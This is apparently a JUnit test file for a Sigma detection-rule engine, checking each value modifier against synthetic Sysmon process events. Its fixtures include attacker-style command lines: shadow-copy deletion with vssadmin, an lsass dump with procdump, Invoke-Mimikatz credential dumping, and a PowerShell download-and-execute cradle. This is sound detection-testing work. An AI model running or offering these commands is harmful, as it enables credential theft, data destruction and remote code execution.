package io.hsystem.detection.sigma;

import static io.hsystem.detection.sigma.Rules.matches;
import static io.hsystem.detection.sigma.Rules.process;
import static io.hsystem.detection.sigma.Rules.processCreation;
import static io.hsystem.detection.sigma.Rules.refusal;
import static org.assertj.core.api.Assertions.assertThat;

import io.hsystem.protocol.Event;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Every Sigma value modifier, on events made by the server's own Sysmon parser. */
class ModifierTest {

  private static Event cmd(String commandLine) {
    return process("Image", "C:\\Windows\\System32\\cmd.exe", "CommandLine", commandLine);
  }

  @Test
  void plainValuesMatchTheWholeValueCaseInsensitively() {
    SigmaRule rule =
        processCreation(
            "selection:\n  Image: 'c:\\windows\\system32\\CMD.EXE'\ncondition: selection");
    assertThat(matches(rule, cmd("x"))).isTrue();
    assertThat(matches(rule, process("Image", "C:\\Windows\\System32\\cmd.exe.bak"))).isFalse();
  }

  @Test
  void containsStartswithEndswith() {
    SigmaRule contains = processCreation("s:\n  CommandLine|contains: 'MimiKatz'\ncondition: s");
    SigmaRule starts = processCreation("s:\n  CommandLine|startswith: 'cmd /c'\ncondition: s");
    SigmaRule ends = processCreation("s:\n  Image|endswith: '\\CMD.exe'\ncondition: s");
    assertThat(matches(contains, cmd("run mimikatz.exe now"))).isTrue();
    assertThat(matches(contains, cmd("run mimi katz"))).isFalse();
    assertThat(matches(starts, cmd("CMD /C whoami"))).isTrue();
    assertThat(matches(starts, cmd(" cmd /c whoami"))).isFalse();
    assertThat(matches(ends, cmd("x"))).isTrue();
    assertThat(matches(ends, process("Image", "C:\\temp\\xcmd.exe"))).isFalse();
  }

  @Test
  void aListIsAnyValueAndAllMakesItEveryValue() {
    SigmaRule any =
        processCreation("s:\n  CommandLine|contains: ['vssadmin', 'wbadmin']\ncondition: s");
    SigmaRule all =
        processCreation(
            "s:\n  CommandLine|contains|all: ['vssadmin', 'delete', 'shadows']\ncondition: s");
    assertThat(matches(any, cmd("wbadmin delete catalog"))).isTrue();
    assertThat(matches(all, cmd("vssadmin delete shadows /all"))).isTrue();
    assertThat(matches(all, cmd("vssadmin list shadows"))).isFalse();
  }

  @Test
  void regularExpressionsAreCaseSensitiveUnlessI() {
    SigmaRule cased = processCreation("s:\n  CommandLine|re: '\\s-[Ee]nc\\s'\ncondition: s");
    SigmaRule insensitive = processCreation("s:\n  CommandLine|re|i: '\\s-ENC\\s'\ncondition: s");
    assertThat(matches(cased, cmd("powershell -enc AAAA"))).isTrue();
    assertThat(matches(cased, cmd("powershell -ENC AAAA"))).isFalse();
    assertThat(matches(insensitive, cmd("powershell -enc AAAA"))).isTrue();
  }

  @Test
  void regularExpressionSubModifiersMultilineAndDotall() {
    SigmaRule multiline = processCreation("s:\n  CommandLine|re|m: '^whoami$'\ncondition: s");
    SigmaRule dotall = processCreation("s:\n  CommandLine|re|s: 'echo.+whoami'\ncondition: s");
    SigmaRule neither = processCreation("s:\n  CommandLine|re: 'echo.+whoami'\ncondition: s");
    Event twoLines = cmd("echo a\nwhoami");
    assertThat(matches(multiline, twoLines)).isTrue();
    assertThat(matches(processCreation("s:\n  CommandLine|re: '^whoami$'\ncondition: s"), twoLines))
        .isFalse();
    assertThat(matches(dotall, twoLines)).isTrue();
    assertThat(matches(neither, twoLines)).isFalse();
  }

  @Test
  void catastrophicBacktrackingIsAbandonedNotHung() {
    // Java's engine copes with the textbook (a+)+ cases; this one takes O(n^15) steps unbounded
    SigmaRule rule = processCreation("s:\n  CommandLine|re: '(.*a){15}x'\ncondition: s");
    SigmaRuleSet set = SigmaRuleSet.compile(List.of(rule));
    long start = System.nanoTime();
    // the literal the expression requires ('x') is there, so the expression runs
    assertThat(set.matches(cmd("x" + "a".repeat(200)))).isEmpty();
    assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(5_000);
    assertThat(set.abandonedRegexSearches()).isEqualTo(1);
    assertThat(set.matches(cmd("a".repeat(15) + "x"))).containsExactly(rule);
  }

  @Test
  void cidrMatchesIpv4AndIpv6Networks() {
    SigmaRule rule =
        Rules.load(
            """
            title: private destinations
            logsource: {product: windows, category: network_connection}
            detection:
              s:
                DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']
              condition: s
            """);
    assertThat(matches(rule, Rules.sysmon(3, "DestinationIp", "10.20.30.40"))).isTrue();
    assertThat(matches(rule, Rules.sysmon(3, "DestinationIp", "fe80::1:2"))).isTrue();
    assertThat(matches(rule, Rules.sysmon(3, "DestinationIp", "11.0.0.1"))).isFalse();
    assertThat(matches(rule, Rules.sysmon(3, "DestinationIp", "2001:db8::1"))).isFalse();
  }

  @Test
  void windashAcceptsEveryDashAndSlash() {
    SigmaRule rule =
        processCreation("s:\n  CommandLine|contains|windash: ' -accepteula'\ncondition: s");
    for (String dash : new String[] {"-", "/", "\u2013", "\u2014", "\u2015"}) {
      assertThat(matches(rule, cmd("procdump.exe " + dash + "accepteula -ma lsass")))
          .as(dash)
          .isTrue();
    }
    assertThat(matches(rule, cmd("procdump.exe +accepteula"))).isFalse();
  }

  @Test
  void windashOnlyVariesFlagDashes() {
    // pySigma's \B[-/]\b: the dash inside "lsass-dump" follows a word character and stays
    List<SigmaString> variants =
        assertDoesNotRefuse(
            () -> DetectionCompiler.windash(SigmaString.parse("-f lsass-dump"), "t"));
    assertThat(variants).hasSize(5);
    assertThat(variants.stream().map(SigmaString::plain))
        .contains("/f lsass-dump", "\u2015f lsass-dump")
        .allMatch(v -> v.endsWith("lsass-dump"));
  }

  @Test
  void base64EncodesTheValue() {
    SigmaRule rule = processCreation("s:\n  CommandLine|base64|contains: 'http://'\ncondition: s");
    String encoded = b64("http://".getBytes(StandardCharsets.UTF_8));
    assertThat(matches(rule, cmd("certutil -decode " + encoded))).isTrue();
    assertThat(matches(rule, cmd("certutil -decode aHR0cHM6Ly8="))).isFalse();
  }

  @Test
  void base64offsetFindsTheValueAtEveryAlignment() {
    SigmaRule rule =
        processCreation("s:\n  CommandLine|base64offset|contains: 'Invoke-Mimikatz'\ncondition: s");
    for (String prefix : new String[] {"", "x", "xy", "xyz"}) {
      String payload =
          b64((prefix + "Invoke-Mimikatz -DumpCreds").getBytes(StandardCharsets.UTF_8));
      assertThat(matches(rule, cmd("powershell -e " + payload))).as("prefix '%s'", prefix).isTrue();
    }
    assertThat(
            matches(
                rule,
                cmd("powershell -e " + b64("Invoke-Nothing".getBytes(StandardCharsets.UTF_8)))))
        .isFalse();
  }

  @Test
  void utf16EncodingsCombineWithBase64offset() {
    SigmaRule wide =
        processCreation(
            "s:\n  CommandLine|wide|base64offset|contains: 'Net.WebClient'\ncondition: s");
    SigmaRule utf16le =
        processCreation(
            "s:\n  CommandLine|utf16le|base64offset|contains: 'Net.WebClient'\ncondition: s");
    String script = "IEX (New-Object Net.WebClient).DownloadString('http://x')";
    Event encoded = cmd("powershell -enc " + b64(script.getBytes(StandardCharsets.UTF_16LE)));
    assertThat(matches(wide, encoded)).isTrue();
    assertThat(matches(utf16le, encoded)).isTrue();
    assertThat(
            matches(wide, cmd("powershell -enc " + b64(script.getBytes(StandardCharsets.UTF_8)))))
        .isFalse();
  }

  @Test
  void utf16beAndUtf16WithByteOrderMark() {
    SigmaRule be =
        processCreation("s:\n  CommandLine|utf16be|base64|contains: 'cmd'\ncondition: s");
    SigmaRule bom = processCreation("s:\n  CommandLine|utf16|base64|contains: 'cmd'\ncondition: s");
    assertThat(matches(be, cmd("x " + b64(new byte[] {0, 'c', 0, 'm', 0, 'd'})))).isTrue();
    assertThat(
            matches(
                bom,
                cmd("x " + b64(new byte[] {(byte) 0xFF, (byte) 0xFE, 'c', 0, 'm', 0, 'd', 0}))))
        .isTrue();
    assertThat(matches(be, cmd("x " + b64(new byte[] {'c', 0, 'm', 0, 'd', 0})))).isFalse();
  }

  @Test
  void existsTestsPresenceOfCanonicalAndRawFields() {
    SigmaRule present = processCreation("s:\n  OriginalFileName|exists: true\ncondition: s");
    SigmaRule absent = processCreation("s:\n  ParentImage|exists: false\ncondition: s");
    assertThat(matches(present, process("Image", "a.exe", "OriginalFileName", "a.exe"))).isTrue();
    assertThat(matches(present, process("Image", "a.exe"))).isFalse();
    assertThat(matches(absent, process("Image", "a.exe"))).isTrue();
    assertThat(matches(absent, process("Image", "a.exe", "ParentImage", "b.exe"))).isFalse();
  }

  @Test
  void casedMatchesCaseSensitively() {
    SigmaRule rule = processCreation("s:\n  CommandLine|contains|cased: 'Invoke-'\ncondition: s");
    assertThat(matches(rule, cmd("Invoke-Expression"))).isTrue();
    assertThat(matches(rule, cmd("invoke-expression"))).isFalse();
  }

  @Test
  void numericComparisonsOnCanonicalAndRawNumbers() {
    SigmaRule highPort =
        Rules.load(
            """
            title: high port
            logsource: {product: windows, category: network_connection}
            detection:
              s:
                DestinationPort|gte: 49152
              condition: s
            """);
    assertThat(matches(highPort, Rules.sysmon(3, "DestinationPort", "50000"))).isTrue();
    assertThat(matches(highPort, Rules.sysmon(3, "DestinationPort", "49151"))).isFalse();
    SigmaRule session = processCreation("s:\n  TerminalSessionId|lt: 1\ncondition: s");
    assertThat(matches(session, process("TerminalSessionId", "0"))).isTrue();
    assertThat(matches(session, process("TerminalSessionId", "1"))).isFalse();
    assertThat(matches(session, process("TerminalSessionId", "n/a"))).isFalse();
    SigmaRule range =
        processCreation("s:\n  ProcessId|gt: 100\n  ProcessId|lte: 200\ncondition: s");
    assertThat(matches(range, process("Image", "a.exe", "ProcessId", "200"))).isTrue();
    assertThat(matches(range, process("Image", "a.exe", "ProcessId", "100"))).isFalse();
  }

  @Test
  void neqNeedsAPresentDifferentValue() {
    SigmaRule rule = processCreation("s:\n  IntegrityLevel|neq: 'System'\ncondition: s");
    assertThat(matches(rule, process("IntegrityLevel", "High"))).isTrue();
    assertThat(matches(rule, process("IntegrityLevel", "system"))).isFalse();
    assertThat(matches(rule, process("Image", "a.exe"))).isFalse();
    SigmaRule canonical = processCreation("s:\n  User|neq: 'NT AUTHORITY\\SYSTEM'\ncondition: s");
    assertThat(matches(canonical, process("User", "CORP\\alice"))).isTrue();
    assertThat(matches(canonical, process("User", "nt authority\\system"))).isFalse();
    SigmaRule number = processCreation("s:\n  ProcessId|neq: 4\ncondition: s");
    assertThat(matches(number, process("Image", "a.exe", "ProcessId", "5"))).isTrue();
    assertThat(matches(number, process("Image", "a.exe", "ProcessId", "4"))).isFalse();
  }

  @Test
  void fieldrefComparesTwoFieldsOfTheEvent() {
    SigmaRule same = processCreation("s:\n  ParentImage|fieldref: Image\ncondition: s");
    SigmaRule user = processCreation("s:\n  User|fieldref: ParentUser\ncondition: s");
    SigmaRule contains =
        processCreation("s:\n  CommandLine|fieldref|contains: Image\ncondition: s");
    assertThat(matches(same, process("Image", "C:\\a.exe", "ParentImage", "c:\\A.EXE"))).isTrue();
    assertThat(matches(same, process("Image", "C:\\a.exe", "ParentImage", "C:\\b.exe"))).isFalse();
    assertThat(matches(same, process("Image", "C:\\a.exe"))).isFalse();
    assertThat(matches(user, process("User", "CORP\\bob", "ParentUser", "CORP\\bob"))).isTrue();
    assertThat(matches(contains, process("Image", "C:\\a.exe", "CommandLine", "\"C:\\a.exe\" -x")))
        .isTrue();
    SigmaRule different = processCreation("s:\n  User|fieldref|neq: ParentUser\ncondition: s");
    assertThat(
            matches(different, process("User", "CORP\\bob", "ParentUser", "NT AUTHORITY\\SYSTEM")))
        .isTrue();
    assertThat(matches(different, process("User", "CORP\\bob", "ParentUser", "CORP\\bob")))
        .isFalse();
  }

  @Test
  void nullMatchesAnAbsentFieldAndTheEmptyStringAnEmptyOne() {
    SigmaRule absent = processCreation("s:\n  OriginalFileName: null\ncondition: s");
    SigmaRule empty = processCreation("s:\n  Description: ''\ncondition: s");
    SigmaRule emptyCanonical = processCreation("s:\n  CommandLine: ''\ncondition: s");
    assertThat(matches(absent, process("Image", "a.exe"))).isTrue();
    assertThat(matches(absent, process("OriginalFileName", "a.exe"))).isFalse();
    assertThat(matches(empty, process("Description", ""))).isTrue();
    assertThat(matches(empty, process("Description", "x"))).isFalse();
    // the canonical event keeps no empty strings: an empty command line is an absent one
    assertThat(matches(emptyCanonical, process("Image", "a.exe", "CommandLine", ""))).isTrue();
    assertThat(matches(emptyCanonical, process("Image", "a.exe", "CommandLine", "a"))).isFalse();
  }

  @Test
  void modifiersThatCannotRunExactlyAreRefusedWithTheReason() {
    assertThat(refusal("s:\n  CommandLine|contans: x\ncondition: s"))
        .contains("unknown modifier 'contans'");
    assertThat(refusal("s:\n  CommandLine|expand: '%Admins%'\ncondition: s"))
        .contains("placeholders");
    assertThat(refusal("s:\n  CommandLine|contains|re: 'x'\ncondition: s"))
        .contains("'re' must be the first");
    assertThat(refusal("s:\n  CommandLine|i: 'x'\ncondition: s")).contains("only follows 're'");
    assertThat(refusal("s:\n  CommandLine|wide|contains: 'x'\ncondition: s"))
        .contains("'contains' must come after base64");
    assertThat(refusal("s:\n  CommandLine|wide: 'x'\ncondition: s")).contains("followed by base64");
    assertThat(refusal("s:\n  CommandLine|contains|base64: 'x'\ncondition: s"))
        .contains("no wildcards");
    assertThat(refusal("s:\n  CommandLine|re: '(unclosed'\ncondition: s"))
        .contains("does not compile");
    assertThat(refusal("s:\n  DestinationIp|cidr: '10.0.0.0/33'\ncondition: s")).contains("prefix");
    assertThat(refusal("s:\n  DestinationIp|cidr: 'intranet'\ncondition: s"))
        .contains("not an IP network");
    assertThat(refusal("s:\n  CommandLine|exists: 'yes please'\ncondition: s"))
        .contains("true or false");
    assertThat(refusal("s:\n  ProcessId|gt: 'many'\ncondition: s")).contains("needs a number");
    assertThat(refusal("s:\n  ProcessId|gt|contains: 5\ncondition: s"))
        .contains("cannot be combined");
    assertThat(refusal("s:\n  CommandLine|contains: null\ncondition: s"))
        .contains("null takes no modifiers");
    assertThat(refusal("s:\n  CommandLine|hour: 3\ncondition: s")).contains("time-part modifier");
    assertThat(refusal("s:\n  CommandLine|contains|windash: '-a -b -c -d -e -f'\ncondition: s"))
        .contains("windash");
    assertThat(refusal("s:\n  CommandLine|base64offset|contains: 'a'\ncondition: s"))
        .contains("too short");
    assertThat(refusal("s:\n  CommandLine|contains|fieldref: Image\ncondition: s"))
        .contains("plain field name");
  }

  private static String b64(byte[] bytes) {
    return Base64.getEncoder().encodeToString(bytes);
  }

  private interface Compiling<T> {
    T get() throws UnsupportedRuleException;
  }

  private static <T> T assertDoesNotRefuse(Compiling<T> compiling) {
    try {
      return compiling.get();
    } catch (UnsupportedRuleException e) {
      throw new AssertionError("refused: " + e.getMessage(), e);
    }
  }
}
